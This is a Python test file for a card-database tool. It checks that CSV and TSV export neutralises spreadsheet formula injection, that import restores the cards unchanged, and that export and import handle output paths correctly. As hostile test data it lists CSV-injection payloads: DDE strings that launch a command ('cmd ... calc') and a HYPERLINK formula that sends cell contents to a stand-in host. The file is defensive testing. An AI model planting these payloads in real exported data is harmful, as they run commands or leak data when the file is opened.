"""Spreadsheets carddb writes are safe to open, and export and import write where they should
(issue 29, findings 4 and 12).

Finding 4: `carddb export` (CSV and TSV) wrote a card named `=1+1`, a flavour
`=HYPERLINK("http://x/?"&A2,"y")` or `+cmd|' /C calc'!A0` as it was, and a spreadsheet
evaluates such a cell as a formula (OWASP: "CSV injection"). Now every cell that starts with
`=`, `+`, `-`, `@`, a tab or a carriage return is written with a `'` before it, which a
spreadsheet shows as text, and `carddb import` removes exactly that quote, so the round trip
still gives the same cards. The play-mode lists (booster CSVs) name cards too and are guarded the same way.

Finding 12: `export --out data/<game>/cards/x.yaml` replaced a card file with CSV, and
`import --to data/<game>/cards/x.yaml` wrote data/<game>/cards/data/<game>/cards/x.yaml.
"""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest
import yaml
from support.projects import run_cli, write_project

from carddb.cards.loading import load_database
from carddb.files.project import Project
from carddb.packs.lookup import get_pack

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://x/?"&A2,"y")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=1+1",  # already quoted by someone: still comes back as written
    "''@x",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _hostile_cards() -> str:
    cards = []
    for index, text in enumerate(FORMULAS, start=1):
        cards.append(
            {
                "id": f"formula-{index}",
                "name": text.strip() or "x",  # a name is one line: tabs and line breaks go in the flavour
                "kind": "spell",
                "set": "BASE",
                "number": 10 + index,
                "rarity": "common",
                "cost": 0,
                "text": "Draw a card.",
                "flavor": text,
                "art": {"file": "good.png", "artist": text.strip()},
            }
        )
    return yaml.safe_dump(cards, allow_unicode=True, sort_keys=False)


def _cards(root: Path) -> dict[str, dict[str, object]]:
    db, report = load_database(Project.at(root), get_pack("loe"))
    assert not report.errors, report.format_text()
    return {card.id: card.model_dump() for card in db.cards}


def _cells(path: Path, separator: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""), delimiter=separator))


@pytest.mark.parametrize("sheet", ["csv", "tsv"])
def test_no_exported_cell_is_a_formula_and_the_round_trip_is_lossless(tmp_path: Path, sheet: str) -> None:
    source = write_project(tmp_path / "source", {"formulas.yaml": _hostile_cards()})
    exported = tmp_path / f"cards.{sheet}"
    done = run_cli("export", "--format", sheet, "--out", str(exported), "--project", str(source))
    assert done.exit_code == 0, done.stdout + done.stderr
    rows = _cells(exported, "\t" if sheet == "tsv" else ",")
    assert len(rows) == 1 + len(FORMULAS)
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell
    names = [row[rows[0].index("name")] for row in rows[1:]]
    assert "'=1+1" in names and "''=1+1" in names  # one quote more than written, removed again on import

    target = tmp_path / "imported"
    (target / "data" / "loe" / "cards").mkdir(parents=True)
    shutil.copy(source / "data" / "loe" / "sets.yaml", target / "data" / "loe" / "sets.yaml")
    shutil.copytree(source / "data" / "loe" / "art", target / "data" / "loe" / "art")
    done = run_cli("import", str(exported), "--project", str(target))
    assert done.exit_code == 0, done.stdout + done.stderr
    assert _cards(target) == _cards(source)


def test_a_negative_number_stays_a_number(tmp_path: Path) -> None:
    from carddb.spreadsheets.cells import guarded_cell, unguarded_cell

    for text in ["-3", "-0.5", "12"]:
        assert guarded_cell(text) == text and unguarded_cell(text) == text
    for text in ["-3e5", "-3 cards", "+3"]:
        assert guarded_cell(text) == "'" + text and unguarded_cell(guarded_cell(text)) == text


def test_booster_lists_guard_card_names_too(tmp_path: Path) -> None:
    cards = _hostile_cards()
    project = write_project(tmp_path / "project", {"formulas.yaml": cards})
    (project / "data" / "loe" / "boosters.yaml").write_text(
        "boosters:\n  spells:\n    name: Spells\n    slots:\n      - {name: spell, count: 3, filter: {kind: spell}}\n",
        encoding="utf-8",
    )
    done = run_cli("boosters", "spells", "-n", "2", "--seed", "3", "--project", str(project))
    assert done.exit_code == 0, done.stdout + done.stderr
    [listing] = (project / "output" / "loe" / "play").rglob("boosters.csv")
    rows = _cells(listing, ",")
    assert len(rows) > 1
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


def test_export_onto_a_card_file_is_refused_and_the_file_is_kept(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    project = write_project(tmp_path / "project")
    monkeypatch.chdir(project)  # the relative --out paths below are typed in the project folder
    card_file = project / "data" / "loe" / "cards" / "cards.yaml"
    before = card_file.read_bytes()
    for out in (str(card_file), "data/loe/cards/cards.yaml", "data/loe/cards/new.csv"):
        done = run_cli("export", "--out", out, "--project", str(project))
        assert done.exit_code == 2, done.stdout + done.stderr
        assert "the project's own files" in done.stderr
    (project / "notes.md").write_text("my notes\n", encoding="utf-8")
    done = run_cli("export", "--out", str(project / "notes.md"), "--project", str(project))
    assert done.exit_code == 2 and "is not a spreadsheet" in done.stderr
    assert card_file.read_bytes() == before
    assert (project / "notes.md").read_text(encoding="utf-8") == "my notes\n"
    assert not (project / "data" / "loe" / "cards" / "new.csv").exists()


@pytest.mark.parametrize("to", ["data/loe/cards/more.yaml", "more.yaml", "{project}/data/loe/cards/more.yaml"])
def test_import_to_names_the_card_file_it_writes(tmp_path: Path, to: str, monkeypatch: pytest.MonkeyPatch) -> None:
    source = write_project(tmp_path / "source")
    sheet = tmp_path / "cards.csv"
    assert run_cli("export", "--out", str(sheet), "--project", str(source)).exit_code == 0
    project = tmp_path / "project"
    (project / "data" / "loe" / "cards").mkdir(parents=True)
    shutil.copy(source / "data" / "loe" / "sets.yaml", project / "data" / "loe" / "sets.yaml")
    shutil.copytree(source / "data" / "loe" / "art", project / "data" / "loe" / "art")
    monkeypatch.chdir(project)
    done = run_cli("import", str(sheet), "--to", to.format(project=project), "--project", str(project))
    assert done.exit_code == 0, done.stdout + done.stderr
    written = sorted(p.relative_to(project).as_posix() for p in project.rglob("*.yaml") if p.name != "sets.yaml")
    assert written == ["data/loe/cards/more.yaml"]
    assert "wrote data/loe/cards/more.yaml" in done.stdout
